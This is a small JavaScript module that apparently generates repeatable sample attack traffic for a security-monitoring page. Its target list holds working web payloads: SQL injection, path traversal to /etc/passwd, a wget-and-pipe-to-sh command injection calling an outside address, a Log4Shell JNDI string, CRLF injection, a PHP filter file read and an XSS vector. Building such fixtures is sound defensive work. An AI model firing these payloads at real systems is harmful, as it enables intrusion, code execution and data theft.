/** Attacks of several kinds from several addresses, for a page that looks as it does at work. */

const ADDRESSES = [
  '203.0.113.9',
  '198.51.100.23',
  '192.0.2.77',
  '2001:db8:85a3::8a2e:370:7334',
  '203.0.113.200',
];

const TARGETS = [
  '/products.php?id=1%27%20OR%20%271%27=%271',
  '/search?q=-1+UNION+SELECT+table_name,1+FROM+information_schema.tables--',
  '/static/..%252f..%252f..%252fetc/passwd',
  '/cgi-bin/luci?cmd=;wget%20http://198.51.100.4/x.sh|sh',
  '/.git/config',
  '/item?id=1%27%20UNION%20SELECT%20password%20FROM%20users--',
  '/.env',
  '/api?x=${jndi:ldap://198.51.100.4/a}',
  '/redirect?to=%0d%0aSet-Cookie:x=1',
  '/page?file=php://filter/convert.base64-encode/resource=index.php',
  '/comment?text=%3Csvg%20onload=alert(1)%3E',
];

/** So many attacks, the same in every run. */
export function attacks(count) {
  return Array.from({ length: count }, (_, place) => ({
    address: ADDRESSES[(place * 7 + (place >> 2)) % ADDRESSES.length],
    target: TARGETS[(place * 3 + (place >> 3)) % TARGETS.length],
    agent: place % 4 === 0 ? 'sqlmap/1.7.2#stable (https://sqlmap.org)' : 'Mozilla/5.0 (X11; Linux x86_64)',
    status: [200, 403, 404, 500][place % 4],
    method: place % 5 === 0 ? 'POST' : 'GET',
  }));
}
